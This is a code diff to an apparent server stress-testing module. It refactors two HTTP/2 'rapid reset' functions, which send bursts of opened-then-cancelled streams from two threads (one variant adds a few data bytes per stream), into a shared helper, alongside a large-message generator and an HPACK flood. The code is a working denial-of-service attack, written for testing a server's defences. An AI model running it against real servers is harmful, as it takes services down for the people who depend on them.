@@ -206,43 +206,32 @@ def generate_31_mib(target: Target, seconds: float) -> None:
     grpc_calls(target, seconds, 1, 'Generate', field(1, 'the old house. ' * (31 * MIB // 15)))
 
 
-def rapid_reset(target: Target, seconds: float) -> None:
-    """Row 5: streams that are reset at once, on two connections."""
+def reset_streams(target: Target, seconds: float, data: bytes) -> None:
     block = header_block('/no.such/Method')
 
     def attack() -> None:
         with http2(target, timeout=5) as client:
-            first = 1
             client.socket.settimeout(5)
-            while first < 1 << 30:
+            for first in range(1, 1 << 30, 200):
                 burst = b''.join(
                     frame(HEADERS, END_HEADERS, stream, block)
+                    + (frame(0, 0, stream, data) if data else b'')
                     + frame(RST_STREAM, 0, stream, struct.pack('>I', CANCEL))
                     for stream in range(first, first + 200, 2))
-                first += 200
                 if not client.send(burst):
                     return
 
     in_threads(2, seconds, attack)
+
+
+def rapid_reset(target: Target, seconds: float) -> None:
+    """Row 5: streams that are reset at once, on two connections."""
+    reset_streams(target, seconds, b'')
 
 
 def rapid_reset_with_data(target: Target, seconds: float) -> None:
     """Row 5, with the first bytes of a message before each reset: it passes wait-for-body."""
-    block = header_block('/no.such/Method')
-
-    def attack() -> None:
-        with http2(target, timeout=5) as client:
-            first = 1
-            while first < 1 << 30:
-                burst = b''.join(
-                    frame(HEADERS, END_HEADERS, stream, block) + frame(0, 0, stream, bytes(5))
-                    + frame(RST_STREAM, 0, stream, struct.pack('>I', CANCEL))
-                    for stream in range(first, first + 200, 2))
-                first += 200
-                if not client.send(burst):
-                    return
-
-    in_threads(2, seconds, attack)
+    reset_streams(target, seconds, bytes(5))
 
 
 def hpack_flood(target: Target, seconds: float) -> None:
